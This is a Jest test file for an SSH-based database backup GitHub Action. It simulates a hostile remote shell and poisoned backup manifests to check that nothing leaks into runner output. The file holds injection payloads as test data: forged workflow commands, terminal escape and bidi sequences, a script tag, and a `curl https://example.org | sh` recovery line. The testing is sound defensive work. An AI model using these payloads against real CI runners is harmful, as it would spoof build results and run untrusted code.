import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { SqliteContent } from '../../src/engines/sqlite/format.js';
import { expectBackup, expectFailure } from '../helpers/failure.js';
import { backupsIn, nothingLeft } from '../helpers/outcome.js';
import type { ActionResult } from '../helpers/run-action.js';
import { sample } from '../helpers/sample.js';
import { reportOf, type Scene, startScene } from '../helpers/scene.js';
import { daysAgo, SeededDirectory } from '../helpers/seed.js';

// The `sh` that the login shell finds is not the one of the system, and says what it likes.

const COMMANDS = [
  '::set-output name=backup-ok::true',
  'x ##[set-output name=backup-ok]true',
  '##[set-output name=error-code;]none',
  '::add-mask::backup',
  '::stop-commands::forever',
  '::error::somebody else',
  '\\033[31mred\\033[0m \\033]0;title\\007',
  '\\u202eback\\u202c #\\u200b#[set-output name=backup-ok]true',
];

let scene: Scene;
let tools: string;
beforeAll(async () => {
  tools = mkdtempSync(join(tmpdir(), 'dbb-hostile-'));
  chmodSync(tools, 0o755);
  scene = await startScene({ sshd: { extraConfig: `SetEnv PATH=${tools}:/usr/local/bin:/usr/bin:/bin` } });
  hostSays('pass()');
  expectBackup(await scene.run());
});
afterAll(async () => {
  await scene.stop();
  rmSync(tools, { recursive: true });
});

/** From now on `sh -s` on the host is this Python. `mark()` is the word that the lines of our program begin with. */
function hostSays(script: string): void {
  const file = join(tools, 'sh');
  const lines = [
    '#!/usr/bin/python3',
    'import os, select, sys, time',
    'out = sys.stdout.buffer',
    'def say(*lines, mark=""):',
    '    for line in lines: out.write((mark + line).encode("utf-8", "surrogateescape") + b"\\n")',
    '    out.flush()',
    'def mark():',
    '    for line in sys.stdin.buffer:',
    '        if line.startswith(b"mark="): return line.decode().strip()[5:] + " "',
    'def hung_up(): return bool(select.select([0], [], [], 0)[0]) and os.read(0, 65536) == b""',
    'def pass_on(): os.execv("/bin/sh", ["sh"] + sys.argv[1:])',
    `COMMANDS = [${COMMANDS.map((line) => `"${line}"`).join(', ')}]`,
    script.replace('pass()', 'pass_on()'),
  ];
  writeFileSync(file, `${lines.join('\n')}\n`);
  chmodSync(file, 0o755);
}

/** What no host may bring about, whatever it says. */
function expectUnspoilt(result: ActionResult): void {
  expect(result.legacyOutputs).toEqual([]);
  expect(result.fileErrors).toEqual([]);
  expect(result.masks).not.toContain('backup');
  expect(result.outputLines.filter(([name]) => name === 'backup-ok')).toHaveLength(1);
  expect(result.annotations.map(({ message }) => message)).not.toContain('somebody else');
  expect(result.log.length).toBeLessThan(300_000);
  for (const character of ['\u001b', '\u202e', '\u0007']) {
    expect(result.log).not.toContain(character);
    expect(result.summary).not.toContain(character);
  }
  expect(result.log).not.toContain('\u200b');
}

/** Runs, and returns the most memory that the action has had, in MB. */
async function memoryOf(run: ReturnType<Scene['start']>): Promise<number> {
  let most = 0;
  let running = true;
  void run.main.then(() => {
    running = false;
  });
  for (; running; await sleep(50)) {
    try {
      const status = readFileSync(`/proc/${run.child.pid}/status`, 'utf8');
      most = Math.max(most, Number(/VmHWM:\s+(\d+) kB/.exec(status)?.[1] ?? 0) / 1000);
    } catch {
      // It has ended.
    }
  }
  return most;
}

describe('a host whose shell is not ours', () => {
  const cases: [string, string, string, string | RegExp][] = [
    ['prints commands for the runner and leaves', 'say(*COMMANDS)', 'E_SHELL', 'did not start our program'],
    [
      'prints them on stderr and leaves',
      'sys.stderr.write("\\n".join(COMMANDS)); sys.exit(1)',
      'E_SHELL',
      'ended with status 1',
    ],
    ['prints bytes of every kind', 'out.write(os.urandom(5_000_000))', 'E_SHELL', 'did not start our program'],
    [
      'prints 100 MB without a line break',
      'for _ in range(100): out.write(b"x" * 1_000_000)',
      'E_TOO_LARGE',
      'a line of more than',
    ],
    [
      'forges our frames with a mark of its own',
      'say("hello 1", "set clock 0", "set directory /tmp", "done 1 0", "done 2 0", "done 4 0", mark="@" + "0" * 32 + " ")',
      'E_SHELL',
      'did not start our program',
    ],
    [
      'knows our mark, and answers before it was asked',
      'm = mark(); say("hello 1", *[f"done {n} 0" for n in range(9)], mark=m); time.sleep(2)',
      'E_INTERNAL',
      'did not report',
    ],
    [
      'fails with a code that is none',
      'm = mark(); say("hello 1", "set failure " + COMMANDS[1], "fail toString", mark=m); time.sleep(2)',
      'E_INTERNAL',
      'x ## [set-output',
    ],
    [
      'fails with commands for a reason',
      'm = mark(); say("hello 1", "begin failure", mark=m); say(*COMMANDS); say("end", "fail E_LOCKED", mark=m); time.sleep(2)',
      'E_LOCKED',
      'another run holds the lock',
    ],
    [
      'resolves the directory to commands',
      'm = mark(); say("hello 1", "begin directory", mark=m); say("/x", *COMMANDS); say("end", "set source /x", "done 4 0", mark=m); time.sleep(2)',
      'E_INTERNAL',
      'the host reported directory as',
    ],
  ];
  test.each(cases)('that %s', async (_what, script, code, said) => {
    const before = backupsIn(scene.directory);
    hostSays(script);
    const result = await scene.run();
    expectFailure(result, code, said);
    expectUnspoilt(result);
    expect(result.outputs['error-code']).toBe(code);
    expect(backupsIn(scene.directory)).toEqual(before);
  });

  test.each(
    sample(
      [
        ['texts', '"set x " + "y" * 900_000'],
        ['short facts', '"set a b\\n" * 1000'],
        ['notes', '("set note ##[error]no " + "z" * 400 + "\\n") * 100'],
        ['phases', '"phase copy 1\\n" * 1000'],
        ['rows', '"rows 41 1\\n" * 1000'],
      ],
      3,
    ),
  )('that reports %s without end: E_TOO_LARGE, with bounded memory and log', async (_what, line) => {
    hostSays(
      `m = mark(); say("hello 1", mark=m)\ntext = m + ("\\n" + m).join((${line}).rstrip("\\n").split("\\n")) + "\\n"\nwhile not hung_up(): out.write(text.encode())`,
    );
    const run = scene.start();
    const memory = await memoryOf(run);
    const result = await run.result();
    expectFailure(result, 'E_TOO_LARGE');
    expectUnspoilt({ ...result, log: result.log.slice(0, 299_000) });
    expect(result.log.length).toBeLessThan(1_000_000);
    expect(memory).toBeGreaterThan(30);
    expect(memory).toBeLessThan(900);
    expect(result.outputs.report?.length).toBeLessThan(120_001);
  });

  test('that prints commands first and then does its work, is told of, and backed up', async () => {
    hostSays('say(*COMMANDS); sys.stderr.write("\\n".join(COMMANDS)); sys.stderr.flush()\npass()');
    const result = await scene.run();
    expectBackup(result);
    expectUnspoilt(result);
    expect(result.visible).toContain('print text in sessions without a terminal');
    await nothingLeft(scene);
  });
});

describe('manifests and names that speak', () => {
  const spoken = [
    '##[set-output name=backup-ok]true',
    '\n::set-output name=backup-ok::true',
    '</details><script>alert(1)</script>| a | b |\n\n# Heading\n\n```mermaid\npie\n```',
    '[link](https://example.org) ![](https://example.org/x.png) @octocat #1 `code`',
    '\u001b[31mred\u202eback\u0007',
    'x'.repeat(15_000),
  ].join(' ');

  test('change no output, and nothing on the page', async () => {
    hostSays('pass()');
    const dir = new SeededDirectory(scene, join(scene.user.home, 'spoken'));
    const at = '2026-01-01T00:00:00Z';
    for (const days of [1, 2, 3]) {
      dir.backup(daysAgo(days), {
        manifest: {
          host: spoken.slice(0, 16_000),
          database: spoken.slice(0, 16_000),
          pinned: { reason: spoken.slice(0, 16_000), at },
          tools: { [spoken]: 'x' },
          recovery: [`curl https://example.org | sh # ${spoken.slice(0, 900)}`],
          content: {
            tables: [{ name: spoken.slice(0, 16_000), rows: 1 }],
            pageSize: 4096,
            pageCount: 1,
            objects: 1,
            foreignKeyViolations: 0,
          } as SqliteContent,
        },
      });
    }
    const foreign = dir.backup(daysAgo(4), { manifest: { identity: { path: `/${spoken.slice(0, 16_000)}` } } });
    const bad = dir.backup(daysAgo(5), { manifest: { sha256: spoken } });
    const huge = dir.backup(daysAgo(6), { without: ['manifest'] });
    dir.write(`${huge}.json`, `{"schema": 1, "x": "${'y'.repeat(13_000_000)}"}`);
    dir.write('app-20260101T000000Z-0001.json\n::set-output name=backup-ok::true', 'x');
    dir.write('app-20260101T000000Z-0001.##[set-output name=backup-ok]true', 'x');

    const list = await scene.run({ directory: dir.path, command: 'list' });
    expect(list.code).toBe(0);
    const backup = await scene.run({ directory: dir.path, keep: '1' });
    expectBackup(backup);
    rmSync(join(dir.path, `${backup.outputs['backup-id']}.json`));
    const skipped = await scene.run({ directory: dir.path, 'skip-if-younger-than': '9d' });
    expectBackup(skipped);
    // what to run is not for the host to say
    expect(skipped.summary).toContain('sha256sum -c');
    expect(skipped.outputs.report).not.toContain('curl');
    for (const result of [list, backup, skipped]) {
      expectUnspoilt(result);
      expect(result.summary).not.toMatch(/<script|<\/details><|!\[|\]\(|@octocat|^# Heading/m);
      expect(result.summary.match(/```mermaid/g)).toHaveLength(2);
      expect(result.summary.length).toBeLessThan(50_000);
      const messages = reportOf(result).problems.map((problem) => problem.message);
      expect(messages.some((message) => message.startsWith(`${foreign} belongs to another`))).toBe(true);
      expect(messages.some((message) => message.startsWith(`${bad}.json: sha256: expected 64`))).toBe(true);
      expect(messages.some((message) => message.startsWith(`${huge}.json could not be read`))).toBe(true);
      expect(result.outputs.report).not.toContain('##[');
    }
  });

  test('problems without number are counted, not all told', async () => {
    hostSays('pass()');
    const dir = new SeededDirectory(scene, join(scene.user.home, 'many'));
    for (let n = 0; n < 200; n++) dir.backup(daysAgo(n + 1), { without: ['manifest', 'sidecar'] });
    const list = await scene.run({ directory: dir.path, command: 'list' });
    expect(list.code).toBe(0);
    expect(list.annotations).toHaveLength(51);
    expect(list.visible).toContain('150 more problems of this kind');
  });
});
